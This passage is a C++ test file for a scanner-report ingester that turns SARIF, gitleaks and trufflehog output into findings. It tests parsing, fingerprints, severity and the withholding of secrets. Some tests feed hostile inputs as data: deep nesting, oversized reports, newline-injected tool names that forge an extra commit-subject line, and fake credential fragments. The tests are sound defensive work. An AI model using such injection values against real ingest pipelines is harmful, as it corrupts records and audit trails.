// Scanner reports → findings: every report in ../shared/fixtures (real scanner output), hostile
// and invalid input, and the rule that no secret from a report reaches a finding.

#include <doctest/doctest.h>

#include <filesystem>
#include <fstream>
#include <functional>
#include <map>
#include <nlohmann/json.hpp>
#include <regex>
#include <set>
#include <sstream>

#include "docket/codec/sarif.hpp"
#include "docket/core/error.hpp"
#include "scan_fixtures.hpp"

using namespace docket;
using namespace docket::test;
using nlohmann::json;

namespace {

core::ScanReport sarif(const std::string& fixture, const codec::ScanOptions& options = {}) {
  auto report = codec::read_sarif(read_fixture(fixture), fixture, options);
  check_no_secret_leaks(report, fixture);
  return report;
}

std::set<std::string> locations(const core::ScanReport& report) {
  std::set<std::string> out;
  for (const auto& f : report.findings) out.insert(f.location);
  return out;
}

std::string minimal_sarif(const json& results, const json& run_extra = json::object()) {
  json run{{"tool", {{"driver", {{"name", "Scanner"}, {"rules", json::array({{{"id", "r0"}}, {{"id", "r1"}}})}}}}},
           {"results", results}};
  for (const auto& [k, v] : run_extra.items()) run[k] = v;
  return json{{"version", "2.1.0"}, {"runs", json::array({run})}}.dump();
}

json result_at(const std::string& uri, int line, const json& extra = json::object()) {
  json r{{"ruleId", "r0"},
         {"message", {{"text", "found"}}},
         {"locations", json::array({{{"physicalLocation", {{"artifactLocation", {{"uri", uri}}}, {"region", {{"startLine", line}}}}}}})}};
  for (const auto& [k, v] : extra.items()) r[k] = v;
  return r;
}

}  // namespace

TEST_CASE("every fixture is either read or refused with a clear message") {
  // A new fixture must be added to one of these lists, so none goes untested.
  const std::set<std::string> tested{"gitleaks/sarif_simple.sarif",
                                     "gitleaks/baseline.json",
                                     "gitleaks/gitleaks_7.5.0.sarif",
                                     "trufflehog/v3_github.json",
                                     "trufflehog/trufflehog_matching_path.json",
                                     "trivy/alpine-310.sarif",
                                     "trivy/misconfigurations_and_secrets.json",
                                     "checkov/checkov.valid.sarif",
                                     "semgrep/test_sarif_output_include_nosemgrep/results.sarif",
                                     "sarif-pattern-matcher/SEC101_008.AwsCredentials.sarif",
                                     "codeql-action/valid-sarif.sarif",
                                     "codeql-action/invalid-sarif.sarif",
                                     "dockle/dockle_0_3_15.sarif",
                                     "github-secret-scanning/github_secrets_detection_report_many_vul.json",
                                     "prowler/many_vuln_after_4_5_0.ocsf.json",
                                     "aws-access-analyzer/list-findings-v2.output.json"};
  for (const auto& entry : std::filesystem::recursive_directory_iterator(kFixtures)) {
    if (!entry.is_regular_file() || entry.path().extension() == ".md") continue;
    const std::string name = std::filesystem::relative(entry.path(), kFixtures).generic_string();
    // OpenSSH's signature test vectors are keys and signatures, not scanner reports.
    if (name.starts_with("openssh-sshsig/")) continue;
    CAPTURE(name);
    CHECK(tested.count(name) == 1);
  }
}

TEST_CASE("gitleaks 8 SARIF: commit metadata in partialFingerprints is not the identity") {
  const auto report = sarif("gitleaks/sarif_simple.sarif");
  REQUIRE(report.findings.size() == 1);
  const auto& f = report.findings[0];
  CHECK(f.tool == "gitleaks");
  CHECK(f.rule == "test-rule");  // not declared in driver.rules: the dangling id is kept
  CHECK(f.location == "auth.py:1");
  CHECK_FALSE(f.severity.has_value());  // no level anywhere: the template decides
  CHECK(f.secret);
  CHECK(report.complete_tools == std::set<std::string>{"gitleaks"});

  // The same finding found in another commit by another author is the same finding.
  auto log = json::parse(read_fixture("gitleaks/sarif_simple.sarif"));
  log["runs"][0]["results"][0]["partialFingerprints"] = {{"commitSha", "1111"}, {"author", "Someone Else"}, {"date", "x"}};
  CHECK(codec::read_sarif(log.dump(), "x").findings[0].fingerprint == f.fingerprint);
}

TEST_CASE("gitleaks native JSON matches the identity gitleaks SARIF gives the same finding") {
  const std::string text = read_fixture("gitleaks/baseline.json");
  const auto report = codec::read_gitleaks_json(text, "gitleaks/baseline.json");
  check_no_secret_leaks(report, "gitleaks/baseline.json");
  REQUIRE(report.findings.size() == 2);
  CHECK(locations(report) == std::set<std::string>{"detect/detect_test.go:32", "detect/detect_test.go:33"});
  CHECK(report.findings[0].rule == "pypi-upload-token");
  CHECK(report.findings[0].secret);

  json log = json::parse(read_fixture("gitleaks/sarif_simple.sarif"));
  auto& result = log["runs"][0]["results"][0];
  result["ruleId"] = "pypi-upload-token";
  result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] = "detect/detect_test.go";
  result["locations"][0]["physicalLocation"]["region"]["startLine"] = 32;
  CHECK(codec::read_sarif(log.dump(), "x").findings[0].fingerprint == report.findings[0].fingerprint);

  // Secret and Match are never read, even when gitleaks ran without --redact.
  json clear = json::parse(text);
  clear[0]["Secret"] = "pypi-AgEIcHlwaS5vcmcCJGE4ZmM1ZGVmLWQ";
  clear[0]["Match"] = "token = pypi-AgEIcHlwaS5vcmcCJGE4ZmM1ZGVmLWQ";
  for (const auto& f : codec::read_gitleaks_json(clear.dump(), "x").findings)
    for (const std::string* field : {&f.tool, &f.rule, &f.message, &f.location, &f.fingerprint})
      CHECK(field->find("AgEIcHlwaS5") == std::string::npos);
}

TEST_CASE("gitleaks 7 SARIF: the rule comes from the message; one finding per place across commits") {
  const auto report = sarif("gitleaks/gitleaks_7.5.0.sarif");
  CHECK(report.findings.size() == 4);
  CHECK(report.duplicates == 4);  // the same file and line in two commits
  std::set<std::string> rules;
  for (const auto& f : report.findings) {
    rules.insert(f.rule);
    CHECK(f.tool == "gitleaks");  // "Gitleaks", lower-cased so versions agree
    CHECK(f.secret);
  }
  CHECK(rules == std::set<std::string>{"AWS Access Key", "Asymmetric Private Key"});
  CHECK(locations(report).count("dojo/unittests/tools/test_gitlab_secret_detection_report_parser.py:37") == 1);
}

TEST_CASE("trufflehog JSON lines: duplicates, multi-line objects, and no Raw or Redacted") {
  const std::string text = read_fixture("trufflehog/v3_github.json");
  const auto report = codec::read_trufflehog_json(text, "v3_github.json");
  check_no_secret_leaks(report, "trufflehog/v3_github.json");
  CHECK(report.findings.size() == 3);
  CHECK(report.duplicates == 1);
  CHECK(locations(report) ==
        std::set<std::string>{"https://github.com/trufflesecurity/test_keys/keys:4 (commit fbc14303ffbf)",
                              "https://github.com/trufflesecurity/test_keys/keys:3 (commit 77b2a3e56973)",
                              "https://github.com/trufflesecurity/test_keys/keys:1 (commit 77b2a3e56973)"});
  for (const auto& f : report.findings) {
    CHECK(f.severity == Severity::critical);  // Verified: live at the issuer
    CHECK(f.secret);
    CHECK(f.former_fingerprints.empty());  // the old identity was coarser: never matched
  }

  const auto one = codec::read_trufflehog_json(read_fixture("trufflehog/trufflehog_matching_path.json"), "m.json");
  check_no_secret_leaks(one, "trufflehog/trufflehog_matching_path.json");
  REQUIRE(one.findings.size() == 1);
  CHECK(one.findings[0].rule == "Box");
  CHECK(one.findings[0].location == "/pwd/.git/objects/06/a26a7f8c8e7dd7e07594f5c061f397b05ffbfe:2");
  CHECK_FALSE(one.findings[0].severity.has_value());

  const auto none = codec::read_trufflehog_json("\n\n", "empty.json");
  CHECK(none.findings.empty());
  CHECK(none.complete_tools == std::set<std::string>{"trufflehog"});
}

TEST_CASE("trivy vulnerabilities: security-severity, rule index, relative uri kept relative") {
  const auto report = sarif("trivy/alpine-310.sarif");
  // Two packages with the same CVE in the same image are one finding: one (rule, place).
  CHECK(report.findings.size() == 2);
  CHECK(report.duplicates == 2);
  for (const auto& f : report.findings) {
    CHECK(f.tool == "trivy");
    CHECK(f.severity == Severity::medium);  // security-severity 5.3
    CHECK(f.location == "testdata/fixtures/images/alpine-310.tar.gz:1");
    CHECK_FALSE(f.secret);
  }
}

TEST_CASE("checkov, semgrep, dockle, codeql and the SARIF pattern matcher") {
  SUBCASE("checkov: level error is high; absolute path without scheme") {
    const auto report = sarif("checkov/checkov.valid.sarif");
    REQUIRE(report.findings.size() == 1);
    CHECK(report.findings[0].rule == "CKV_ALI_10");
    CHECK(report.findings[0].severity == Severity::high);
    CHECK(report.findings[0].location == "/code/terraform/alicloud/bucket.tf:1");
  }
  SUBCASE("semgrep: the nosemgrep result is suppressed; the rule default level applies") {
    const auto report = sarif("semgrep/test_sarif_output_include_nosemgrep/results.sarif");
    REQUIRE(report.findings.size() == 1);
    CHECK(report.suppressed == 1);
    CHECK(report.findings[0].severity == Severity::high);
    CHECK(report.findings[0].location == "targets/basic/regex-nosemgrep.txt:3");
    CHECK_FALSE(report.findings[0].secret);  // an account id is not a secret
  }
  SUBCASE("semgrep: matchBasedId keeps the identity when the line moves") {
    auto log = json::parse(read_fixture("semgrep/test_sarif_output_include_nosemgrep/results.sarif"));
    const auto before = codec::read_sarif(log.dump(), "x").findings.at(0).fingerprint;
    log["runs"][0]["results"][1]["locations"][0]["physicalLocation"]["region"]["startLine"] = 40;
    CHECK(codec::read_sarif(log.dump(), "x").findings.at(0).fingerprint == before);
  }
  SUBCASE("dockle: no locations at all") {
    const auto report = sarif("dockle/dockle_0_3_15.sarif");
    REQUIRE(report.findings.size() == 4);
    std::map<std::string, core::ScanFinding> by_rule;
    for (const auto& f : report.findings) by_rule[f.rule] = f;
    CHECK(by_rule.at("CIS-DI-0010").location.empty());
    CHECK(by_rule.at("CIS-DI-0010").severity == Severity::high);
    CHECK(by_rule.at("CIS-DI-0010").secret);  // "Do not store credential in ENVIRONMENT vars/files"
    CHECK(by_rule.at("CIS-DI-0005").severity == Severity::low);
    CHECK_FALSE(by_rule.at("CIS-DI-0005").secret);
  }
  SUBCASE("codeql: two runs; the cross-run duplicate is one finding; artifact index") {
    const auto report = sarif("codeql-action/valid-sarif.sarif");
    CHECK(report.findings.size() == 2);
    CHECK(report.duplicates == 1);
    CHECK(report.tools == std::set<std::string>{"lgtm.com", "codeql command-line toolchain"});
    CHECK(locations(report) == std::set<std::string>{"main.js:2", "src/promiseUtils.js:2"});
    for (const auto& f : report.findings) CHECK(f.severity == Severity::low);  // rule default "note"
  }
  SUBCASE("sarif pattern matcher: rule through the extension; secret-bearing fingerprints only hashed") {
    const auto report = sarif("sarif-pattern-matcher/SEC101_008.AwsCredentials.sarif");
    REQUIRE(report.findings.size() == 4);
    for (const auto& f : report.findings) {
      CHECK(f.rule == "SEC101/008");
      CHECK(f.tool == "spmi");
      CHECK(f.secret);  // the rule is named AwsCredentials
      CHECK(f.location.starts_with("src/Plugins/Tests.Security/TestData/SecurePlaintextSecrets/Inputs/SEC101_008.AwsCredentials.ps1:"));
      CHECK(f.message.empty());  // message arguments carry partial secrets and are not read
    }
  }
}

TEST_CASE("invalid SARIF is refused, naming the file and the field") {
  const std::string invalid = read_fixture("codeql-action/invalid-sarif.sarif");
  const auto message = usage_error([&] { (void)codec::read_sarif(invalid, "invalid-sarif.sarif"); });
  CHECK(message.find("invalid-sarif.sarif: runs[0].results: is not a list") != std::string::npos);

  const std::vector<std::pair<std::string, std::string>> cases{
      {"", "is empty"},
      {"{", "not valid JSON"},
      {"{\"version\":\"2.1.0\",\"runs\":[]} {}", "holds 2 SARIF logs one after another"},
      {"{\"version\":\"2.0.0\",\"runs\":[]}", "SARIF version 2.0.0"},
      {"{\"runs\":[]}", "no SARIF \"version\""},
      {"{\"version\":\"2.1.0\"}", "no \"runs\""},
      {"{\"version\":\"2.1.0\",\"runs\":[{\"results\":[]}]}", "runs[0]: has no tool"},
      {"{\"version\":\"2.1.0\",\"runs\":[{\"tool\":{\"driver\":{}},\"results\":[]}]}", "runs[0].tool.driver: has no name"},
      {minimal_sarif(json::array({42})), "runs[0].results[0]: is not an object"},
      {minimal_sarif(json::array({result_at("a", 1, {{"level", "fatal"}})})), "runs[0].results[0].level: is 'fatal'"},
      {minimal_sarif(json::array({result_at("a", 1, {{"ruleId", 7}})})), "runs[0].results[0].ruleId: is not a string"},
      {minimal_sarif(json::array({result_at("a", 1, {{"ruleIndex", 5}})})), "ruleIndex: 5 names no declared rule"},
      {minimal_sarif(json::array({result_at("a", 1, {{"locations", "x"}})})), "locations: is not a list"},
  };
  for (const auto& [text, expected] : cases) {
    CAPTURE(text);
    const auto error = usage_error([&] { (void)codec::read_sarif(text, "t.sarif"); });
    CHECK(error.find(expected) != std::string::npos);
    CHECK(error.starts_with("t.sarif: "));
  }
}

TEST_CASE("reports that are not SARIF are refused by the SARIF reader with a pointer to the right command") {
  const std::map<std::string, std::string> commands{
      {"prowler/many_vuln_after_4_5_0.ocsf.json", "docket ingest prowler"},
      {"aws-access-analyzer/list-findings-v2.output.json", "docket ingest access-analyzer"},
      {"github-secret-scanning/github_secrets_detection_report_many_vul.json", "docket ingest github-secret-scanning"},
      {"trivy/misconfigurations_and_secrets.json", "docket ingest trivy"},
      {"gitleaks/baseline.json", "docket ingest gitleaks"}};
  for (const auto& [name, command] : commands) {
    CAPTURE(name);
    const auto error = usage_error([&] { (void)codec::read_sarif(read_fixture(name), name); });
    CHECK(error.find("not a SARIF log") != std::string::npos);
    CHECK(error.find(command) != std::string::npos);  // the hint names the command that reads it
  }
  // JSON that is no report docket knows still says what to give.
  CHECK(usage_error([&] { (void)codec::read_sarif("[1, 2]", "l"); }).find("SARIF 2.1.0") != std::string::npos);
  const auto trufflehog = usage_error([&] { (void)codec::read_sarif(read_fixture("trufflehog/v3_github.json"), "t"); });
  CHECK(trufflehog.find("docket ingest trufflehog") != std::string::npos);
  const auto sarif_to_gitleaks =
      usage_error([&] { (void)codec::read_gitleaks_json(read_fixture("gitleaks/sarif_simple.sarif"), "s"); });
  CHECK(sarif_to_gitleaks.find("docket ingest sarif") != std::string::npos);
  const auto list_to_trufflehog = usage_error([&] { (void)codec::read_trufflehog_json("[{}]", "l"); });
  CHECK(list_to_trufflehog.find("one object per finding") != std::string::npos);
  const auto no_detector = usage_error([&] { (void)codec::read_trufflehog_json("{\"Raw\":\"x\"}\n", "n"); });
  CHECK(no_detector.find("finding 1: has no DetectorName") != std::string::npos);
  const auto no_rule = usage_error([&] { (void)codec::read_gitleaks_json("[{\"File\":\"a\"}]", "g"); });
  CHECK(no_rule.find("[0]: has no RuleID") != std::string::npos);
}

TEST_CASE("hostile input: deep nesting and size are refused before parsing") {
  const std::string deep(200000, '[');
  CHECK(usage_error([&] { (void)codec::read_sarif(deep, "deep.sarif"); }).find("nested deeper than") != std::string::npos);
  CHECK(usage_error([&] { (void)codec::read_trufflehog_json(std::string(100000, '{'), "deep.json"); }).find("nested deeper") !=
        std::string::npos);
  // Brackets inside strings do not count.
  const std::string in_string = minimal_sarif(json::array({result_at(std::string(500, '['), 1)}));
  CHECK(codec::read_sarif(in_string, "s").findings.size() == 1);
  const std::string huge(codec::kMaxReportBytes + 1, ' ');
  CHECK(usage_error([&] { (void)codec::read_sarif(huge, "huge.sarif"); }).find("over the limit") != std::string::npos);
}

TEST_CASE("a run that failed or gave no results list cannot mark findings as gone") {
  const std::string no_results = json{{"version", "2.1.0"}, {"runs", {{{"tool", {{"driver", {{"name", "X"}}}}}}}}}.dump();
  const auto a = codec::read_sarif(no_results, "a");
  CHECK(a.tools == std::set<std::string>{"x"});
  CHECK(a.complete_tools.empty());
  const auto failed = codec::read_sarif(
      minimal_sarif(json::array(), {{"invocations", json::array({{{"executionSuccessful", false}}})}}), "f");
  CHECK(failed.complete_tools.empty());
  const auto ok = codec::read_sarif(minimal_sarif(json::array()), "o");
  CHECK(ok.complete_tools == std::set<std::string>{"scanner"});
  CHECK(codec::read_sarif("{\"version\":\"2.1.0\",\"runs\":[]}", "e").tools.empty());
}

TEST_CASE("relative URIs are resolved against originalUriBaseIds when the run defines them") {
  json r = result_at("src/app.py", 3);
  r["locations"][0]["physicalLocation"]["artifactLocation"]["uriBaseId"] = "SRCROOT";
  const auto unresolved = codec::read_sarif(minimal_sarif(json::array({r})), "u");
  CHECK(unresolved.findings.at(0).location == "src/app.py:3");
  const json bases{{"SRCROOT", {{"uri", "repo"}, {"uriBaseId", "HOME"}}}, {"HOME", {{"uri", "file:///work/"}}}};
  const auto resolved = codec::read_sarif(minimal_sarif(json::array({r}), {{"originalUriBaseIds", bases}}), "r");
  // The absolute start of the chain is the scanning machine's workspace: dropped.
  CHECK(resolved.findings.at(0).location == "repo/src/app.py:3");
  const json loop{{"SRCROOT", {{"uri", "a/"}, {"uriBaseId", "SRCROOT"}}}};
  CHECK(usage_error([&] { (void)codec::read_sarif(minimal_sarif(json::array({r}), {{"originalUriBaseIds", loop}}), "l"); })
            .find("loops") != std::string::npos);
}

TEST_CASE("severity: security-severity, then level, then the rule's default") {
  const auto severity_of = [](const json& result_extra, const json& rule0 = {{"id", "r0"}}) {
    json log = json::parse(minimal_sarif(json::array({result_at("a", 1, result_extra)})));
    log["runs"][0]["tool"]["driver"]["rules"][0] = rule0;
    return codec::read_sarif(log.dump(), "s").findings.at(0).severity;
  };
  CHECK(severity_of({{"properties", {{"security-severity", "9.8"}}}, {"level", "note"}}) == Severity::critical);
  CHECK(severity_of({{"properties", {{"security-severity", 7.0}}}}) == Severity::high);
  CHECK(severity_of({}, {{"id", "r0"}, {"properties", {{"security-severity", "4.0"}}}}) == Severity::medium);
  CHECK(severity_of({{"properties", {{"security-severity", "0.5"}}}}) == Severity::low);
  CHECK(severity_of({{"properties", {{"security-severity", "high"}}}, {"level", "error"}}) == Severity::high);
  CHECK(severity_of({{"level", "warning"}}) == Severity::medium);
  CHECK(severity_of({{"level", "none"}}) == Severity::low);
  CHECK(severity_of({}, {{"id", "r0"}, {"defaultConfiguration", {{"level", "error"}}}}) == Severity::high);
  CHECK_FALSE(severity_of({}).has_value());
}

TEST_CASE("rule ids: ruleId, rule.id, rule index, or unknown") {
  json by_index = result_at("a", 1);
  by_index.erase("ruleId");
  by_index["ruleIndex"] = 1;
  json by_reference = result_at("a", 2);
  by_reference.erase("ruleId");
  by_reference["rule"] = {{"id", "custom/rule"}};
  json none = result_at("a", 3);
  none.erase("ruleId");
  const auto report = codec::read_sarif(minimal_sarif(json::array({by_index, by_reference, none})), "r");
  REQUIRE(report.findings.size() == 3);
  CHECK(report.findings[0].rule == "r1");
  CHECK(report.findings[1].rule == "custom/rule");
  CHECK(report.findings[2].rule == "unknown");
}

TEST_CASE("fingerprints: tool values are hashed, commit metadata skipped, --tool scopes identity") {
  json with_hash = result_at("a", 1, {{"partialFingerprints", {{"primaryLocationLineHash", "abc:1"}, {"commitSha", "9"}}}});
  json moved = result_at("a", 9, {{"partialFingerprints", {{"primaryLocationLineHash", "abc:1"}, {"commitSha", "8"}}}});
  const auto a = codec::read_sarif(minimal_sarif(json::array({with_hash})), "a");
  const auto b = codec::read_sarif(minimal_sarif(json::array({moved})), "b");
  CHECK(a.findings.at(0).fingerprint == b.findings.at(0).fingerprint);
  CHECK(a.findings.at(0).fingerprint.find("abc") == std::string::npos);
  const auto scoped = codec::read_sarif(minimal_sarif(json::array({with_hash})), "a", codec::ScanOptions{.tool = "Repo-B"});
  CHECK(scoped.findings.at(0).tool == "repo-b");
  CHECK(scoped.findings.at(0).fingerprint != a.findings.at(0).fingerprint);
  // Only commit metadata: the location identity, so the line matters.
  json only_metadata = result_at("a", 1, {{"partialFingerprints", {{"commitSha", "1"}, {"email", "x@y"}}}});
  json plain = result_at("a", 1);
  CHECK(codec::read_sarif(minimal_sarif(json::array({only_metadata})), "m").findings.at(0).fingerprint ==
        codec::read_sarif(minimal_sarif(json::array({plain})), "p").findings.at(0).fingerprint);
}

TEST_CASE("the tool's name, which reaches the ingest commit's subject, is one line and never a live secret") {
  json run{{"tool", {{"driver", {{"name", std::string("Scanner AK") + "IAIOSFODNN7QWERTYU\nopen EX-FORGED"}}}}}, {"results", json::array({result_at("a", 1)})}};
  const auto report = codec::read_sarif(json{{"version", "2.1.0"}, {"runs", json::array({run})}}.dump(), "t");
  REQUIRE(report.tools.size() == 1);
  const std::string tool = *report.tools.begin();
  CHECK(tool.find('\n') == std::string::npos);
  CHECK(tool.find("withheld") != std::string::npos);
  CHECK(report.findings.at(0).tool == tool);
  // --tool is held to the same.
  const auto named = codec::read_sarif(minimal_sarif(json::array({result_at("a", 1)})), "t", codec::ScanOptions{.tool = "line\nbreak"});
  CHECK(named.tools == std::set<std::string>{"line"});  // the first line only
}

TEST_CASE("text that would be stored is one line and never a live secret") {
  json r = result_at(std::string("config/AK") + "IAIOSFODNN7QWERTYU.txt", 2);  // not AWS's documentation example
  r["ruleId"] = "rule\nwith\x01lines";
  const auto f = codec::read_sarif(minimal_sarif(json::array({r})), "t").findings.at(0);
  CHECK(f.location.find("AKIA") == std::string::npos);
  CHECK(f.location.find("withheld") != std::string::npos);
  CHECK(f.rule == "rule");
  json long_uri = result_at(std::string(1000, 'x') + "\xc3\xa9", 1);
  const auto g = codec::read_sarif(minimal_sarif(json::array({long_uri})), "t").findings.at(0);
  CHECK(g.location.size() <= 300);
  CHECK(g.location.ends_with("..."));
}

TEST_CASE("kind pass and notApplicable are not findings; baseline absent is gone") {
  const auto report = codec::read_sarif(minimal_sarif(json::array({result_at("a", 1, {{"kind", "pass"}}),
                                                                   result_at("a", 2, {{"kind", "notApplicable"}}),
                                                                   result_at("a", 3, {{"baselineState", "absent"}}),
                                                                   result_at("a", 4, {{"kind", "fail"}})})),
                                        "k");
  REQUIRE(report.findings.size() == 1);
  CHECK(report.findings[0].location == "a:4");
}

TEST_CASE("a suppression under review or rejected does not hide the finding") {
  const auto report = codec::read_sarif(
      minimal_sarif(json::array({result_at("a", 1, {{"suppressions", json::array({{{"kind", "external"}, {"status", "underReview"}}})}}),
                                 result_at("a", 2, {{"suppressions", json::array({{{"kind", "external"}, {"status", "rejected"}}})}}),
                                 result_at("a", 3, {{"suppressions", json::array({{{"kind", "external"}, {"status", "accepted"}}})}})})),
      "s");
  CHECK(report.findings.size() == 2);
  CHECK(report.suppressed == 1);
}

TEST_CASE("a tool is named alike in its findings and in the report's tool lists, however it is spelled") {
  // Found by fuzz/fuzz_sarif, fuzz_gitleaks_json and fuzz_trufflehog_json with `--tool "Custom
  // Scanner\t"` over these fixtures: findings named the tool `custom scanner`, the tool lists
  // `custom  scanner\t`, so ingest never marked that tool's records not seen (it matches records
  // to complete tools by name); and a driver name with a line break ended the ingest commit's
  // subject early, which verify then refused (message-mismatch).
  const codec::ScanOptions custom{.tool = "Custom  Scanner\t"};
  const std::set<std::string> expected{"custom scanner"};
  const auto check = [&](const core::ScanReport& report) {
    CHECK(report.tools == expected);
    CHECK(report.complete_tools == expected);
    CHECK_FALSE(report.findings.empty());
    for (const auto& f : report.findings) CHECK(f.tool == "custom scanner");
  };
  check(codec::read_sarif(read_fixture("gitleaks/sarif_simple.sarif"), "s", custom));
  check(codec::read_gitleaks_json(read_fixture("gitleaks/baseline.json"), "g", custom));
  check(codec::read_trufflehog_json(read_fixture("trufflehog/trufflehog_matching_path.json"), "t", custom));

  json two_lines = json::parse(minimal_sarif(json::array({result_at("a", 1)})));
  two_lines["runs"][0]["tool"]["driver"]["name"] = "Scan\nner";
  const auto report = codec::read_sarif(two_lines.dump(), "n");
  CHECK(report.tools == std::set<std::string>{"scan"});
  CHECK(report.complete_tools == report.tools);
  CHECK(report.findings.at(0).tool == "scan");
}

TEST_CASE("two runners with different workspaces give the same identity") {
  const auto at = [](const std::string& workspace) {
    json r = result_at("src/app.py", 3);
    r["locations"][0]["physicalLocation"]["artifactLocation"]["uriBaseId"] = "SRCROOT";
    const json bases{{"SRCROOT", {{"uri", workspace}}}};
    return codec::read_sarif(minimal_sarif(json::array({r}), {{"originalUriBaseIds", bases}}), "r").findings.at(0);
  };
  const auto a = at("file:///home/runner/work/app/app/");
  const auto b = at("file:///builds/group/app/");
  CHECK(a.location == "src/app.py:3");
  CHECK(a.fingerprint == b.fingerprint);
  // The identity docket gave it when it joined the workspace in is kept as a former one, so an
  // exception opened then is still this finding.
  REQUIRE(a.former_fingerprints.size() == 1);
  CHECK(a.former_fingerprints[0] != b.former_fingerprints.at(0));

  SUBCASE("absolute paths and file:// URIs under --base") {
    const auto with_base = [](const std::string& uri, const std::string& base) {
      codec::ScanOptions options;
      options.bases = {base};
      return codec::read_sarif(minimal_sarif(json::array({result_at(uri, 7)})), "b", options).findings.at(0);
    };
    const auto one = with_base("/home/runner/work/app/src/x.py", "/home/runner/work/app");
    const auto two = with_base("file:///builds/app/src/x.py", "/builds/app");
    const auto three = with_base("file://ci-host/builds/app/src/x.py", "/builds/app/");
    CHECK(one.location == "src/x.py:7");
    CHECK(two.location == "src/x.py:7");
    CHECK(three.location == "src/x.py:7");
    CHECK(one.fingerprint == two.fingerprint);
    CHECK(one.fingerprint == three.fingerprint);
    // A path outside the base stays absolute and is counted, so the summary can say so.
    codec::ScanOptions options;
    options.bases = {"/elsewhere"};
    const auto outside = codec::read_sarif(minimal_sarif(json::array({result_at("/home/x/src/x.py", 7)})), "o", options);
    CHECK(outside.findings.at(0).location == "/home/x/src/x.py:7");
    CHECK(outside.absolute_locations == 1);
    // A base that is only a prefix of a folder name does not match.
    options.bases = {"/home/x/sr"};
    CHECK(codec::read_sarif(minimal_sarif(json::array({result_at("/home/x/src/x.py", 7)})), "p", options)
              .findings.at(0)
              .location == "/home/x/src/x.py:7");
  }
  SUBCASE("without --base, the checkout that holds the path") {
    codec::ScanOptions options;
    std::vector<std::string> asked;
    options.checkout_root = [&](std::string_view path) -> std::optional<std::string> {
      asked.emplace_back(path);
      if (path.starts_with("/ws/one/")) return std::string("/ws/one");
      return std::nullopt;
    };
    const auto report = codec::read_sarif(
        minimal_sarif(json::array({result_at("/ws/one/a.py", 1), result_at("file:///tmp/b.py", 2), result_at("./c.py", 3)})), "c",
        options);
    CHECK(locations(report) == std::set<std::string>{"a.py:1", "/tmp/b.py:2", "c.py:3"});
    CHECK(report.absolute_locations == 1);
    CHECK(asked == std::vector<std::string>{"/ws/one/a.py", "/tmp/b.py"});
  }
}

TEST_CASE("a fingerprint shared by results of different rules or places is a placeholder, not an identity") {
  const json same{{"partialFingerprints", {{"primaryLocationLineHash", "0000000000000000:1"}}}};
  json results = json::array();
  for (int line : {3, 9, 27, 81}) results.push_back(result_at("config/app.env", line, same));
  const auto report = codec::read_sarif(minimal_sarif(results), "p");
  CHECK(report.findings.size() == 4);
  CHECK(report.duplicates == 0);
  CHECK(report.placeholder_fingerprints == 4);
  // The fallback is the location fingerprint, plus a hash of the matched text when there is one.
  json with_snippets = results;
  with_snippets[0]["locations"][0]["physicalLocation"]["region"]["snippet"] = {{"text", "KEY=one"}};
  with_snippets[1]["locations"][0]["physicalLocation"]["region"]["snippet"] = {{"text", "KEY=two"}};
  const auto snipped = codec::read_sarif(minimal_sarif(with_snippets), "s");
  CHECK(snipped.findings.size() == 4);
  CHECK(snipped.findings[0].fingerprint != report.findings[0].fingerprint);
  CHECK(snipped.findings[2].fingerprint == report.findings[2].fingerprint);
  for (const auto& f : snipped.findings) CHECK(f.location.find("KEY=") == std::string::npos);
  // A fingerprint that repeats for the same rule and place is still an identity (a duplicate).
  const auto twice = codec::read_sarif(minimal_sarif(json::array({result_at("a", 1, same), result_at("a", 1, same)})), "t");
  CHECK(twice.findings.size() == 1);
  CHECK(twice.duplicates == 1);
  CHECK(twice.placeholder_fingerprints == 0);
}

TEST_CASE("ruleIndex -1 is no index; when index and id disagree the rule with that id wins, with a warning") {
  json run_rules = json::array({{{"id", "r0"}, {"defaultConfiguration", {{"level", "error"}}}},
                                {{"id", "r1"}, {"defaultConfiguration", {{"level", "note"}}}}});
  const auto log = [&](const json& result) {
    json run{{"tool", {{"driver", {{"name", "Scanner"}, {"rules", run_rules}}}}}, {"results", json::array({result})}};
    return json{{"version", "2.1.0"}, {"runs", json::array({run})}}.dump();
  };
  json minus_one = result_at("a", 1, {{"ruleId", "r1"}, {"ruleIndex", -1}});
  const auto a = codec::read_sarif(log(minus_one), "a");
  CHECK(a.findings.at(0).severity == Severity::low);  // r1's default level
  CHECK(a.warnings.empty());

  json disagree = result_at("a", 1, {{"ruleId", "r1"}, {"ruleIndex", 0}});
  const auto b = codec::read_sarif(log(disagree), "b");
  CHECK(b.findings.at(0).rule == "r1");
  CHECK(b.findings.at(0).severity == Severity::low);  // never r0's "error"
  REQUIRE(b.warnings.size() == 1);
  CHECK(b.warnings[0].find("ruleIndex 0 names 'r0' but ruleId is 'r1'") != std::string::npos);

  json unknown = result_at("a", 1, {{"ruleId", "r9"}, {"ruleIndex", 0}});
  const auto c = codec::read_sarif(log(unknown), "c");
  CHECK(c.findings.at(0).rule == "r9");
  CHECK_FALSE(c.findings.at(0).severity.has_value());
  CHECK(c.warnings.at(0).find("no declared rule has that id") != std::string::npos);

  // A flood of such results gives a bounded list of warnings.
  json many = json::array();
  for (int i = 0; i < 50; ++i) many.push_back(result_at("a", i + 1, {{"ruleId", "r1"}, {"ruleIndex", 0}}));
  json run{{"tool", {{"driver", {{"name", "Scanner"}, {"rules", run_rules}}}}}, {"results", many}};
  CHECK(codec::read_sarif(json{{"version", "2.1.0"}, {"runs", json::array({run})}}.dump(), "m").warnings.size() == 11);
}

namespace {

// `text` (ASCII) in UTF-16 or UTF-32 with a byte-order mark.
std::string encoded(const std::string& text, int width, bool big_endian) {
  std::string out;
  const auto put = [&](std::uint32_t c) {
    for (int i = 0; i < width; ++i) {
      const int shift = big_endian ? 8 * (width - 1 - i) : 8 * i;
      out += static_cast<char>((c >> shift) & 0xFF);
    }
  };
  put(0xFEFF);
  for (const char c : text) put(static_cast<unsigned char>(c));
  return out;
}

}  // namespace

TEST_CASE("UTF-16 and UTF-32 reports with a byte-order mark are decoded; a UTF-8 mark is skipped") {
  const std::string log = minimal_sarif(json::array({result_at("src/a.py", 4)}));
  const auto plain = codec::read_sarif(log, "p");
  for (const int width : {2, 4})
    for (const bool big : {false, true}) {
      CAPTURE(width);
      CAPTURE(big);
      const auto decoded = codec::read_sarif(encoded(log, width, big), "u");
      CHECK(decoded.findings.at(0).fingerprint == plain.findings.at(0).fingerprint);
    }
